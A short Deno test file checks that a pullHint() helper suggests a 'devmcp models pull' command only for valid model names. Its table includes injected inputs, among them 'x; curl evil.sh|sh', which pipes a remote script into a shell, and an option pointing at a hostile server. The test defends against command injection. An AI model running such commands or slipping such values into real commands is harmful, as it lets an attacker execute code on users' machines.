import { equal } from "node:assert/strict";
import { pullHint } from "./pull_hint.ts";

Deno.test("pullHint() is a command for names only", () => {
  const list = 'run "devmcp models list" to see which models the server has';
  const table: [name: string, hint: string][] = [
    ["mistral:7b", 'run "devmcp models pull mistral:7b"'],
    ["x; curl evil.sh|sh", list],
    ["--server=http://evil", list],
    ["", list],
  ];
  for (const [name, hint] of table) equal(pullHint(name), hint);
});
